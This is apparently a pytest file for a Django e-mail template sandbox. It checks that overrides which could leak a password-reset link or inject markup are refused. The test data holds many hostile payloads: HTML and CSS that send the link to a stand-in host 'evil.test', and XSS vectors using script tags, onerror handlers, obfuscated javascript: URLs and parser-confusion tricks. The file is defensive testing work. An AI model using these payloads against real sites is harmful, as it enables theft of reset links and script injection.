"""The sandbox of e-mail overrides: values cannot reach other hosts or form tags."""

from html.parser import HTMLParser

import pytest

from notifications.exceptions import InvalidTemplateException
from notifications.models import EmailOverride
from notifications.services.templates import overrides
from notifications.services.templates.rendering import render_email

pytestmark = [pytest.mark.django_db, pytest.mark.once]

SECRET = "https://foodfleet.example/password/reset/secret-of-the-link/"


def save(html='<a href="{{ link }}">Go</a>', text="{{ link }}", subject="Reset"):
    words = EmailOverride(template="password_reset", subject=subject, html=html, text=text)
    return overrides.save(override=words, by=None)


@pytest.mark.parametrize(
    "addition",
    [
        '<p style="background:url(https://evil.test/{{ link }})">x</p>', '<p style="{{ first_name }}">x</p>',
        "<p style='background:url(https://evil.test/{{ link }})'>x</p>", '<p class="{{ first_name }}">x</p>',
        "<style>a[href^='https://foodfleet.example/password/reset/s']{background:url(https://evil.test/s)}</style>",
        "<style>@import url(https://evil.test/x.css);</style>", "<style>p{background:url({{ link }})}</style>",
        '<img srcset="https://evil.test/{{ link }}">', '<a ping="https://evil.test">x</a>', '<a href="{{ link }}.evil.test">x</a>',
        "<img src='https://evil.test/{{ link }}'>", '<table background="https://evil.test/{{ link }}"></table>',
    ],
)  # fmt: skip
def test_markup_cannot_send_a_value_to_another_host(addition):
    with pytest.raises(InvalidTemplateException) as refused:
        save('<a href="{{ link }}">Go</a>' + addition)
    assert "html" in refused.value.details


@pytest.mark.parametrize(
    "addition",
    [
        '<{% if link %}img src="https://evil.test/{{ link }}">{% endif %}', "<{% if link %}script>alert(1)</{% endif %}script>",
        "<scr{% if link %}ipt>alert(1)</scr{% endif %}ipt>", "<{{ first_name }} src=x onerror=alert(1)>",
        "{% if link %}<{% endif %}script>alert(1)", '{{ first_name|default:"<" }}script>alert(1)', "<p{% if link %} title='x'{% endif %}>",
        "<p {# x #}>", "{{ first_name|default:\"<a title='\" }}' onclick=alert(1) x='{{ first_name|default:\"'>\" }}",
        "<a title='{{ first_name|default:\"' onclick='alert(1)\" }}'>x</a>",
    ],
)  # fmt: skip
def test_tags_cannot_be_built_from_values_and_conditions(addition):
    with pytest.raises(InvalidTemplateException):
        save('<a href="{{ link }}">Go</a>' + addition)


@pytest.mark.parametrize(
    "addition",
    [
        "<!--><script>alert(1)</script>-->", "<!-- --!><script>alert(1)</script> -->", "<!-- words -->", "<![CDATA[<script>alert(1)</script>]]>",
        '<xmp><a title="</xmp><img src=x onerror=alert(1)>"></a></xmp>', '<noscript><p title="</noscript><img src=x>"></p></noscript>',
        '<title><a title="</title><img src=x onerror=alert(1)>"></a></title>', "<plaintext>", "<template></template>", "<textarea></textarea>",
        '<portal src="https://x"></portal>', '<a xlink:href="javascript:alert(1)">x</a>', "<a\x0bonclick=alert(1)>x</a>", "<a\x00>x</a>", "1 < 2",
        '<a href="java&#9;script:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>', "<a/onclick=alert(1)>x</a>", "<p", '<p title="x',
    ],
)  # fmt: skip
def test_ambiguous_html_is_refused(addition):
    with pytest.raises(InvalidTemplateException):
        save('<a href="{{ link }}">Go</a>' + addition)


def test_link_in_a_subject_is_refused():
    with pytest.raises(InvalidTemplateException) as refused:
        save(subject="Reset: {{ link }}")
    assert "subject" in refused.value.details


def test_ordinary_email_markup_is_accepted():
    save(
        '<h1>Hello {{ first_name|default:"there" }}</h1>\n<table width=600 cellpadding="0" role=\'presentation\'><tr>'
        '<td style="color: #123456; padding: 4px" align="center">{% if first_name %}<b>{{ first_name }}</b>{% else %}'
        '<br/>{% endif %}<img src="https://foodfleet.example/logo.png?a=1&amp;b=2" alt="Logo for {{ first_name }}">'
        "</td></tr></table>\n<p>1 &lt; 2 > 0 <a\n href = \"{{ link }}\" title='{{ first_name|upper }}'>Go</a> "
        '<a href="mailto:help@foodfleet.example">Help</a> <a href="#top">Up</a></p>'
    )
    html = render_email("password_reset", {"link": SECRET, "first_name": "A'\"><b>n"}, "").html
    assert f'href="{SECRET}"' in html
    assert "color: #123456" in html
    assert _tags(html).count("b") == 1  # the template's own: the value made none


def _tags(html):
    reader = HTMLParser()
    found = []
    reader.handle_starttag = lambda tag, attrs: found.append(tag)
    reader.feed(html)
    return found
